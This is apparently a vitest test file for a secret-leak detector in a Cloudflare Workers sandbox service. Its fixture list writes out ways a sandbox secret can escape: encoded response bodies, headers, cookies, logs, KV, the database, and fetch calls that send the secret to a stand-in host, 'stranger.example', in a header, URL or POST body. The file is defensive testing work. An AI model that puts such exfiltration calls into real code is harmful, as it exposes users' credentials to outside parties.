import { env } from "cloudflare:workers";
import { Buffer } from "node:buffer";
import { eq } from "drizzle-orm";
import { afterEach, describe, expect, test } from "vitest";
import { sandboxes } from "../../../shared/database/schema.ts";
import { createSandbox, openTestDatabase } from "./fixture.ts";
import { expectNoLeak, forgetSecrets, watchAnswer } from "./leak-net.ts";

const { GRANTS } = env as unknown as { GRANTS: KVNamespace };

async function answerToSandbox(body: BodyInit, init?: ResponseInit): Promise<void> {
  await watchAnswer(new Response(body, init)).arrayBuffer();
}

const LEAKS: [string, (value: string, sandboxId: string) => Promise<unknown>][] = [
  ["an answer's body", (value) => answerToSandbox(`<${value}>`)],
  ["an answer's body in base64", (value) => answerToSandbox(btoa(value))],
  ["an answer's body in hex", (value) => answerToSandbox(Buffer.from(value).toString("hex"))],
  ["an answer's header", (value) => answerToSandbox("", { headers: { "X-Echo": value } })],
  ["an answer's cookie", (value) => answerToSandbox("", { headers: { "Set-Cookie": value } })],
  ["an answer's status text", (value) => answerToSandbox("", { statusText: value })],
  ["a line of the log", async (value) => console.warn("failed", { value })],
  ["an error in the log", async (value) => console.error(new Error(value))],
  ["KV", (value) => GRANTS.put("any", value)],
  [
    "the database",
    (value, id) =>
      openTestDatabase().update(sandboxes).set({ name: value }).where(eq(sandboxes.id, id)),
  ],
  [
    "a header to a stranger",
    (value) => fetch("https://stranger.example/", { headers: { "X-Key": value } }),
  ],
  ["a URL of a stranger", (value) => fetch(`https://stranger.example/${value}`)],
  [
    "a body to a stranger",
    (value) => fetch("https://stranger.example/", { method: "POST", body: value }),
  ],
];

describe("the leak net", () => {
  afterEach(forgetSecrets);

  test.each(LEAKS)("catches a value in %s", async (_where, leak) => {
    const sandbox = await createSandbox();
    await expectNoLeak();
    await leak(sandbox.secrets[0]?.value as string, sandbox.id);
    await expect(expectNoLeak()).rejects.toThrow();
  });

  test("lets a value go to a host that may receive it", async () => {
    const sandbox = await createSandbox();
    const headers = { "X-Key": sandbox.secrets[0]?.value as string };
    await fetch(`https://${sandbox.host}/`, { headers });
    await expectNoLeak();
  });
});
